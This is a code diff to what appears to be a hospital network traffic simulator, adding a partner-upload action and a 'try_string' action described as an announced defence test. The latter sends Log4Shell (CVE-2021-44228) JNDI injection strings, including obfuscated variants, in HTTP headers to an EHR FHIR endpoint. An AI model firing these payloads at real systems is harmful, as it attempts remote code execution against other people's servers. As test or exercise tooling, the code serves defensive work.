@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import random
 from datetime import datetime
 
 from act import Doing
 from lan import SCRATCH
 from office import ACCOUNT, PASSWORD
 from services import database
+from services.clinical import FHIR_PORT
 from services.directory import realm
 from space import call
 from state import Hospital
@@ -89,6 +91,33 @@ def telemetry(path: str = "/take", size: int = 2_000) -> Doing:
         address = f"https://telemetry.imaging-vendor.example{path}"
         words = ["curl", "-s", "-A", TELEMETRY_AGENT, "-o", "/dev/null", "-m", "20", "--cacert", SCRATCH / "ca.crt", "-d", "@-", address]
         call(words, stdin="z" * size)
+
+    return doing
+
+
+def upload(name: str, size: int) -> Doing:
+    """Bytes of a seeded generator go to one whom the hospital works with, over TLS."""
+
+    def doing(hospital: Hospital, moment: datetime) -> None:
+        path = hospital.folder("partners") / f"upload-{moment:%H%M%S}"
+        path.write_bytes(random.Random(f"{name}{moment}").randbytes(size))
+        words = ["curl", "-s", "-A", TELEMETRY_AGENT, "-o", "/dev/null", "-m", "60", "--cacert", SCRATCH / "ca.crt", "-H", "Expect:"]
+        call([*words, "--data-binary", f"@{path}", f"https://{name}/take"])
+        path.unlink()
+
+    return doing
+
+
+STRINGS = ("${jndi:ldap://%s:1389/zz}", "${${lower:j}ndi:rmi://%s/zz}", "${${::-j}${::-n}di:dns://%s/zz}")
+
+
+def try_string(number: int) -> Doing:
+    """An announced test of defences: a string of an exploit (CVE-2021-44228) in headers of a request; nobody calls back."""
+
+    def doing(hospital: Hospital, moment: datetime) -> None:
+        text = STRINGS[number % len(STRINGS)] % hospital.address("manage")
+        words = ["curl", "-s", "-A", f"ZZ-Test-Week/1.0 {text}", "-o", "/dev/null", "-m", "20", "-H", f"X-Api-Version: {text}"]
+        call([*words, f"http://{hospital.address('ehr')}:{FHIR_PORT}/fhir/metadata"])
 
     return doing
 
